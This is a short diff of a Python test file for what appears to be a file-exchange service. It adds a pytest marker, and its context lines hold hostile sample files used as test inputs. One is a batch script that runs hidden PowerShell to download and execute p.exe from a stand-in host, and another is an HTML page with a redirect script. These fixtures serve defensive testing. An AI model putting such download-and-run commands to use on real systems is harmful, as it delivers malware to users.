@@ -20,6 +20,8 @@ from tests.services.test_exchange import one, pin, state
 from tests.services.test_exchange_hostile import _forge_with, _rehash
 from tests.storage.sample_files import jpeg_bytes, pdf_bytes, png_bytes, png_header_only
 
+pytestmark = pytest.mark.postgres_ready
+
 MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 4000 + b"This program"
 HTML = b"<!DOCTYPE html><html><body><script>location='http://x.example/'</script></body></html>"
 BAT = b"@echo off\r\npowershell -w hidden -c iwr http://x.example/p.exe -o p.exe\r\np.exe\r\n"
